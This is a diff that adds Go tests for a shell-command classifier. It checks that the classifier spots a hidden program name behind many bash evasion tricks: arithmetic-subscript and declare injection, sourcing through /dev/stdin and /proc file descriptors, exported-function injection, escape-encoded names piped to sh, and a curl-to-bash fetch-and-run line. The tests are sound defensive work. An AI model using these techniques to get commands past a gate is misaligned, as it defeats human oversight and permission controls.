@@ -1,0 +1,95 @@
+package classify
+
+import (
+	"os/exec"
+	"strings"
+	"testing"
+
+	"ua/internal/common/scripttest"
+)
+
+// TestSeen holds that a rule about the program hid finds it, or a part that nobody has
+// read, wherever bash runs it.
+func TestSeen(t *testing.T) {
+	for _, command := range strings.Split(strings.TrimSpace(`
+time -- hid
+time -p -- hid a | cat
+time -- X=1 hid
+time -- ! hid
+env - hid
+env - X=1 hid a
+jobs -x hid %1
+jobs -p -x hid
+let a[\$\(hid\)]=1
+let "a[\$(hid)]=1"
+let 'a['\$'(hid)]=1'
+((a[\$(hid)]=1))
+X='a[$(hid)]'; echo $((X))
+X='a[$(hid)]'; [[ X -eq 1 ]]
+declare -a X='($(hid))'
+declare -A X='([a]=$(hid))'
+X=(); declare X='($(hid))'
+Y='($(hid))'; local -a X=$Y
+readonly -a "X=(\$(hid))"
+export -a X='(`+"`hid`"+`)'
+source /dev/stdin <<<hid
+. /dev/fd/0 <<E⏎hid⏎E
+. <(echo hid)
+source <(sort x)
+cat x | source /proc/self/fd/0
+bash /proc/self/fd/0 <<<hid
+bash /dev/../proc/$$/fd/0 <<<hid
+cd /dev; bash stdin <<<hid
+cd /proc/self/fd; sh 0 <<<hid
+curl -s x.org | bash /proc/thread-self/fd/0
+X='$(hid)'; : ${X@P}
+env 'BASH_FUNC_ls%%=() { hid; }' bash -c ls
+$'\x{68}id'
+$'\x{00068id'
+echo -e '\0150id' | sh
+echo -Ene '\0150id' | sh
+echo -e 'hid\cid' | sh
+printf '%b' '\0150id' | sh
+printf '\150id' | sh
+printf '%c%cd' hx ix | sh
+printf 'hi%c' "d'" | sh
+sh -c "echo '\0150id' | sh"
+`), "\n") {
+		r := Classify(strings.ReplaceAll(command, "⏎", "\n"), &here)
+		seen := false
+		for p := range r.All() {
+			seen = seen || p.Unread || len(p.Words) > 0 && p.Words[0].Text == "hid"
+		}
+		if !seen {
+			t.Errorf("%s: not seen: %+v", command, r.Parts)
+		}
+	}
+}
+
+// TestEscapesAgainstBash has bash decode what the gate does: they agree, or the gate says
+// that it does not know.
+func TestEscapesAgainstBash(t *testing.T) {
+	scripttest.Need(t, "bash")
+	var texts []string
+	for _, e := range strings.Fields(`\0 \01 \0163 \01634 \163 \1634 \7 \8 \x \x7 \x73 \x731 ` +
+		`\x{73} \x{73 \x{00173}z \x{} \u73 \u0073z \U00000073z \a \e \E \? \" \\ \\\\ \n \z \- ` +
+		`\u \xg`) {
+		texts = append(texts, "<"+e+">", e+"y", "a"+e+e)
+	}
+	for name, by := range map[string]escaping{`eval "printf %s \$'$1'"`: dollarQuotes,
+		`echo -ne "$1"`: echoText, `printf -- "$1"`: formatText, `printf %b "$1"`: valueText} {
+		for _, text := range texts {
+			cmd := exec.Command("bash", "--norc", "-c", name, "bash", text)
+			cmd.Env = []string{"LC_ALL=C.UTF-8"}
+			out, _ := cmd.Output()
+			got, sure := escapes(text, by)
+			if i := strings.IndexByte(got, 0); i >= 0 && by == dollarQuotes {
+				got = got[:i] // in bash, too, if not for the rest of the word
+				sure = false
+			}
+			if sure && got != string(out) {
+				t.Errorf("%s, %s: bash %q, the gate %q", name, text, out, got)
+			}
+		}
+	}
+}
